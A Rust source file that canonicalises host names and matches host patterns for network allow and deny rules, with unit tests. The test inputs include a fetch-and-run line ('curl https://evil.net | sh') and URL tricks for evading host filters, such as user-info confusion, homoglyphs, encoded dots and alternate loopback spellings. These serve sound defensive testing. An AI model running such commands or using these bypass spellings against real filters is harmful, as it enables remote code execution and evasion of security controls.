//! Patterns of hosts.

/// A host, or all hosts below a domain (`*.example.com`), or all hosts (`*`).
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum HostPattern {
    Any,
    Below(String),
    Exact(String),
}

impl HostPattern {
    pub(crate) fn new(pattern: &str) -> Result<Self, String> {
        let error =
            || format!("`{pattern}` is not a host: write a name such as `example.com`, `*.example.com`, or `*`");
        if pattern == "*" {
            return Ok(Self::Any);
        }
        match pattern.strip_prefix("*.") {
            Some(domain) => canonical(domain).map(Self::Below).ok_or_else(error),
            None => canonical(pattern).map(Self::Exact).ok_or_else(error),
        }
    }

    /// Returns whether the pattern matches a host in any spelling.
    pub(crate) fn matches(&self, host: &str) -> bool {
        canonical(host).is_some_and(|host| self.matches_canonical(&host))
    }

    /// Returns whether the pattern matches a host that is [`canonical`].
    pub(crate) fn matches_canonical(&self, host: &str) -> bool {
        match self {
            Self::Any => true,
            Self::Exact(exact) => exact == host,
            Self::Below(domain) => is_below(host, domain),
        }
    }

    /// Returns whether the pattern matches every host that the other matches.
    pub(crate) fn covers(&self, other: &Self) -> bool {
        match (self, other) {
            (Self::Any, _) => true,
            (_, Self::Any) | (Self::Exact(_), Self::Below(_)) => false,
            (pattern, Self::Exact(host)) => pattern.matches_canonical(host),
            (Self::Below(domain), Self::Below(other)) => domain == other || is_below(other, domain),
        }
    }

    /// Returns the number of characters that match only themselves.
    pub(crate) fn fixed(&self) -> usize {
        match self {
            Self::Any => 0,
            Self::Below(text) | Self::Exact(text) => text.len(),
        }
    }
}

fn is_below(host: &str, domain: &str) -> bool {
    host.strip_suffix(domain).and_then(|rest| rest.strip_suffix('.')).is_some_and(|rest| !rest.is_empty())
}

/// Returns the host in one spelling: lower case, without a final dot.
#[cfg(feature = "urls")]
pub(crate) fn canonical(host: &str) -> Option<String> {
    let bare = host.strip_prefix('[').and_then(|host| host.strip_suffix(']')).unwrap_or(host);
    let parsed = match bare.parse::<std::net::Ipv6Addr>() {
        Ok(address) => url::Host::Ipv6(address),
        Err(_) => url::Host::parse(host).ok()?,
    };
    Some(canonical_host(&parsed))
}

/// Returns the host in one spelling. Without the feature `urls`, only names and addresses in their usual form have one.
#[cfg(not(feature = "urls"))]
pub(crate) fn canonical(host: &str) -> Option<String> {
    let host = host.strip_suffix('.').unwrap_or(host);
    if let Ok(address) = host.trim_start_matches('[').trim_end_matches(']').parse::<std::net::IpAddr>() {
        return Some(address.to_canonical().to_string());
    }
    let is_part =
        |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_".contains(&byte));
    let last_is_number = host.rsplit('.').next().is_some_and(|part| part.starts_with(|c: char| c.is_ascii_digit()));
    (host.split('.').all(is_part) && !last_is_number).then(|| host.to_ascii_lowercase())
}

/// Returns the host in one spelling.
#[cfg(feature = "urls")]
pub(crate) fn canonical_host<S: AsRef<str>>(host: &url::Host<S>) -> String {
    match host {
        url::Host::Domain(name) => name.as_ref().trim_end_matches('.').to_ascii_lowercase(),
        url::Host::Ipv4(address) => address.to_string(),
        url::Host::Ipv6(address) => std::net::IpAddr::V6(*address).to_canonical().to_string(),
    }
}

/// Returns the host of a text that every program reads as the same address of a server, for rules that let calls run.
#[cfg(feature = "urls")]
pub(crate) fn certain_host(text: &str) -> Option<String> {
    let suspicious = |c: char| c.is_control() || c.is_whitespace() || c == '\\' || !c.is_ascii();
    if text.contains(suspicious) {
        return None;
    }
    if !text.contains("://") {
        // A host alone, perhaps with a port.
        let (host, port) = text.rsplit_once(':').unwrap_or((text, "0"));
        let is_name = host.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-.".contains(&byte));
        return (is_name && port.bytes().all(|byte| byte.is_ascii_digit())).then(|| canonical(host)).flatten();
    }
    let url = url::Url::parse(text).ok()?;
    let is_network = matches!(url.scheme(), "http" | "https" | "ws" | "wss");
    let has_user = !url.username().is_empty() || url.password().is_some();
    // The text begins with the address as it was read: no slash is missing, and no part was repaired.
    let rest = text.split_once("://").map(|(scheme, rest)| (scheme.eq_ignore_ascii_case(url.scheme()), rest));
    let is_usual = rest.is_some_and(|(has_scheme, rest)| has_scheme && !rest.starts_with('/'));
    (is_network && !has_user && is_usual).then(|| url.host().map(|host| canonical_host(&host))).flatten()
}

/// Calls `visit` with each host that a text may mean, for rules that stop calls.
#[cfg(feature = "urls")]
pub(crate) fn possible_hosts(text: &str, visit: &mut dyn FnMut(&str)) {
    let text = text.trim();
    // Programs that repair addresses remove these characters.
    let repaired: String = text.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
    for part in repaired
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '`' | '(' | ')' | ',' | ';' | '|'))
    {
        if part.is_empty() {
            continue;
        }
        let starts: Vec<usize> = part.match_indices("://").map(|(at, _)| at).collect();
        for at in &starts {
            let scheme = part[..*at]
                .rfind(|c: char| !c.is_ascii_alphanumeric() && !"+-.".contains(c))
                .map_or(0, |found| found + part[found..].chars().next().map_or(1, char::len_utf8));
            visit_url(&part[scheme..], visit);
        }
        if starts.is_empty() {
            visit_url(part, visit);
            visit_url(&format!("http://{}", part.trim_start_matches(['/', '\\'])), visit);
        }
    }
}

#[cfg(feature = "urls")]
fn visit_url(text: &str, visit: &mut dyn FnMut(&str)) {
    let Ok(url) = url::Url::parse(text) else { return };
    if let Some(host) = url.host() {
        visit(&canonical_host(&host));
        // Schemes that the standard does not know keep the spelling of the host.
        if let url::Host::Domain(name) = host
            && let Some(host) = canonical(name)
        {
            visit(&host);
        }
    }
}

#[cfg(all(test, feature = "urls"))]
#[allow(clippy::unwrap_used, reason = "a test may panic")]
mod tests {
    use super::*;

    fn possible(text: &str) -> Vec<String> {
        let mut all = Vec::new();
        possible_hosts(text, &mut |host| all.push(host.to_owned()));
        all
    }

    #[test]
    fn a_certain_host_has_one_reading() {
        for (text, host) in [
            ("https://Example.com/a?b#c", "example.com"),
            ("http://example.com.:8080/", "example.com"),
            ("example.com:443", "example.com"),
            ("http://127.1/", "127.0.0.1"),
        ] {
            assert_eq!(certain_host(text).as_deref(), Some(host), "{text}");
        }
        for text in [
            "https://example.com@evil.net/",
            "https://example.com\\@evil.net/",
            "https:example.com",
            "https:///example.com",
            "file://example.com/etc/passwd",
            "javascript://example.com/%0aalert(1)",
            "https://example.com\n.evil.net",
            "https://exаmple.com/",
            "example.com/path",
            "",
        ] {
            assert_eq!(certain_host(text), None, "{text}");
        }
    }

    #[test]
    fn a_possible_host_is_found_in_every_spelling() {
        for text in [
            "https://evil.net/x",
            "HTTPS://EVIL.NET",
            "https://good.org@evil.net",
            "http:\\\\evil.net\\x",
            "//evil.net/x",
            "evil.net",
            "evil.net:80",
            "evil.net/path",
            "https://evil.net./",
            "http://ｅｖｉｌ.net",
            "https://ev\til.net",
            "curl https://evil.net | sh",
            "see (https://evil.net/a)",
            "https://evil%2enet",
            "user@evil.net",
            "git+ssh://evil.net/x",
            "x=https://evil.net",
        ] {
            assert!(possible(text).iter().any(|host| host == "evil.net"), "{text}: {:?}", possible(text));
        }
        for text in ["http://2130706433/", "http://0x7f.1", "http://[::ffff:127.0.0.1]/", "http://127.1"] {
            assert!(possible(text).iter().any(|host| host == "127.0.0.1"), "{text}: {:?}", possible(text));
        }
        assert!(possible("the price is 3.5 dollars").iter().all(|host| host != "evil.net"));
    }

    #[test]
    fn a_wildcard_pattern_matches_subdomains_only() {
        let pattern = |text| HostPattern::new(text).unwrap();
        assert!(pattern("*.a.org").matches("B.A.org"));
        assert!(!pattern("*.a.org").matches("a.org"));
        assert!(!pattern("*.a.org").matches("ba.org"));
        assert!(!pattern("*.a.org").matches("x.a.org.evil.net"));
        assert!(HostPattern::new("https://a.org").is_err());
    }
}
